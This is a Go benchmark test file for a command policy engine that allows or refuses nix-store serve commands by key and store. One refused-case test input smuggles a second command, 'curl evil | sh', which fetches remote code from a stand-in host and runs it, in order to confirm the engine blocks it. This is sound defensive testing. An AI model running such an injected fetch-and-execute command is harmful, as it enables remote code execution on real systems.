package policy

import (
	"testing"
)

func BenchmarkDecide(b *testing.B) {
	e := benchEngine(b)
	req := Request{Key: "build", Command: "nix-store --serve --write --store 'local?root=/srv/alt'"}
	b.ReportAllocs()
	for b.Loop() {
		if d := e.Decide(req); !d.Allow {
			b.Fatal(d.Reason)
		}
	}
}

func BenchmarkDecideRefused(b *testing.B) {
	e := benchEngine(b)
	req := Request{Key: "build", Command: "nix-store --serve --write; curl evil | sh"}
	b.ReportAllocs()
	for b.Loop() {
		if d := e.Decide(req); d.Allow {
			b.Fatal("allowed")
		}
	}
}

func BenchmarkParseConfig(b *testing.B) {
	data := []byte(goodConfig)
	b.ReportAllocs()
	for b.Loop() {
		if _, err := Parse("bench.toml", data); err != nil {
			b.Fatal(err)
		}
	}
}

func benchEngine(b *testing.B) *Engine {
	cfg, err := Parse("b.toml", []byte("user = \"b\"\n[nix]\nstore = \"local?root=/srv/builder\"\nallowed_stores = [\"local?root=/srv/alt\"]\n[[keys]]\nname = \"build\"\nrole = \"build\"\n"))
	if err != nil {
		b.Fatal(err)
	}
	return NewEngine(cfg)
}
